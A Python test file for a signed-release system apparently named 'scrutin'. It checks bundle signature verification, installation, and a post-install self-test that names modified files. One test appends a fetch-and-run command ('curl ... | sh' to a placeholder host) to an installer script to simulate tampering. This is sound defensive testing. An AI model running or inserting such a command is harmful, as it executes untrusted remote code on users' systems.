"""The installable release: built from the sources, signed, checked before installation, and,
once installed, checked file by file by the self-test (RT 4, 72, 100–101)."""

from __future__ import annotations

import json
import os
import subprocess
import sys
from pathlib import Path

import nacl.signing
import pytest

from scrutin.crypto.signing import public_key_hex
from scrutin.machine.release import MANIFEST, build_bundle, check_bundle

ROOT = Path(__file__).resolve().parents[3]

CHECK = """
import sys
from pathlib import Path
from scrutin.machine.core import selftest
print(selftest.package_root())
c = selftest.check_code(Path(sys.argv[1]), sys.argv[2])
print("OK" if c.ok else "KO", c.detail)
"""


@pytest.fixture(scope="module")
def bundle(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, str]:
    key = nacl.signing.SigningKey.generate()
    out = tmp_path_factory.mktemp("version") / "scrutin-essai"
    build_bundle(ROOT, out, key, "essai")
    return out, public_key_hex(key)


def _installed_check(target: Path, manifest: Path, key: str) -> str:
    env = {**os.environ, "PYTHONDONTWRITEBYTECODE": "1", "PYTHONPATH": str(target)}
    done = subprocess.run(
        [sys.executable, "-c", CHECK, str(manifest), key],
        env=env, capture_output=True, text=True, check=True, cwd=target,
    )  # fmt: skip
    return done.stdout


def test_rt_4_72_the_bundle_installs_and_the_self_test_names_a_changed_file(
    bundle: tuple[Path, str], tmp_path: Path
) -> None:
    folder, key = bundle
    assert check_bundle(folder, key) == []
    doc = json.loads((folder / MANIFEST).read_bytes())
    assert "machine/core/store.py" in doc["files"] and "machine/release.py" in doc["files"]
    target = tmp_path / "installe"
    wheel = folder / doc["bundle"]["wheel"]
    subprocess.run(
        [sys.executable, "-m", "pip", "install", "-q", "--no-deps", "--no-compile",
         "--target", str(target), str(wheel)],
        check=True, capture_output=True,
    )  # fmt: skip
    out = _installed_check(target, folder / MANIFEST, key)
    assert str(target) in out.splitlines()[0], "the self-test did not look at the installed copy"
    assert out.splitlines()[1].startswith("OK"), out
    store = target / "scrutin" / "machine" / "core" / "store.py"
    store.write_text(store.read_text() + "\n# changé\n")
    out = _installed_check(target, folder / MANIFEST, key)
    assert out.splitlines()[1].startswith("KO") and "machine/core/store.py modifié" in out


def test_rt_4_a_tampered_or_foreign_bundle_is_refused_before_installation(
    bundle: tuple[Path, str], tmp_path: Path
) -> None:
    folder, key = bundle
    other = public_key_hex(nacl.signing.SigningKey.generate())
    assert check_bundle(folder, other) == [
        "manifeste.json : signé par une autre clé que celle de l'éditeur attendu."
    ]
    copy = tmp_path / "copie"
    copy.mkdir()
    for f in folder.iterdir():
        (copy / f.name).write_bytes(f.read_bytes())
    installer = copy / "installer.sh"
    installer.write_text(installer.read_text() + "\ncurl http://exemple.invalid | sh\n")
    assert check_bundle(copy, key) == [
        "installer.sh modifié (empreinte différente de celle signée)."
    ]
